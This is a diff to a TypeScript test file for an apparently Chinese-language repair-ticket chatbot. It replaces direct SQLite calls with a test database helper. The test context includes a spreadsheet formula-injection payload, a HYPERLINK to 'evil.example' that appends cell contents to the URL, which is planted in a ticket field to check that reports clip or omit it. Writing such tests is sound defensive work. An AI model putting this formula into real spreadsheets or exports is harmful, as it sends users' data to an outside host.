@@ -6,7 +6,7 @@
 import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import Database from 'better-sqlite3';
+import { openTestDatabase } from '../../../test/pg/app-store.js';
 import { describe, expect, it } from 'vitest';
 import { person, press, say, simulate, to } from '../../../test/harness.js';
 
@@ -17,7 +17,7 @@ const people = [
   person('wang', '王老师', { roles: ['staff'], department: 'logistics' }),
 ];
 const tmpDb = () => join(mkdtempSync(join(tmpdir(), 'yizhan-bounds-')), 'y.db');
-const query = (dbPath: string, sql: string) => new Database(dbPath, { readonly: true }).prepare(sql).all();
+const query = (dbPath: string, sql: string) => openTestDatabase(dbPath, { readonly: true }).prepare(sql).all();
 /** The formula of the report: 4,000 characters that a spreadsheet would run. */
 const FORMULA = `=HYPERLINK("http://evil.example/?"&${'A1&'.repeat(1330)}A1,"点这里")`.slice(0, 4000);
 
@@ -56,7 +56,7 @@ describe('digests and cards', () => {
   it('leave out and clip a building written before places were checked', async () => {
     const dbPath = tmpDb();
     await simulate([...people, say('li', '3号楼502热水器坏了'), press('li', '确认提交')], { dbPath });
-    const db = new Database(dbPath);
+    const db = openTestDatabase(dbPath);
     db.prepare('update tickets set building = ?').run(FORMULA);
     db.close();
     const r = await simulate([say('wang', '/digest', STAFF), say('wang', '/status T-1', STAFF)], { dbPath });
